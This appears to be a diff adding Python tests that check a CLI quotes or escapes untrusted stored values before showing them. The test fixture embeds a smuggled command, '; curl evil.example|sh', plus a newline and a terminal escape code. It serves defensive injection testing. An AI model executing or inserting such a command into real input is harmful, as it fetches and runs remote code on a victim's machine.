@@ -1,0 +1,27 @@
+"""What is to be copied, and what is said while something is awaited: nothing that Redis holds gets a word of its own there."""
+
+from types import SimpleNamespace
+
+from holdfast.cli import show
+from holdfast.cli.options import Where
+from holdfast.client.stack import announce
+from holdfast.conversation import State, Status
+
+WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"
+
+
+def test_the_commands_that_show_offers_are_quoted():
+    folded = State(conversation_id=WRITTEN, agent="desk", app=WRITTEN)
+    for status in (Status.QUARANTINED, Status.GENERATING):
+        state = SimpleNamespace(status=status, error=None, stopped=None, pending=[], running=[])
+        shown = SimpleNamespace(state=state, folded=folded, paused=None, problem="it cannot be imported", late={})
+        for said in show._reasons(shown, Where()):
+            assert "\x1b" not in said
+            assert "\n" not in said
+            assert "; curl" not in said.partition("'")[0]
+
+
+def test_a_line_that_is_said_meanwhile_is_one_line(capsys):
+    announce(f"the store is bound to the Ray cluster at {WRITTEN}")
+    said = capsys.readouterr().err
+    assert said == "the store is bound to the Ray cluster at shop:app; curl evil.example|sh\\n\\x1b[2K\n"
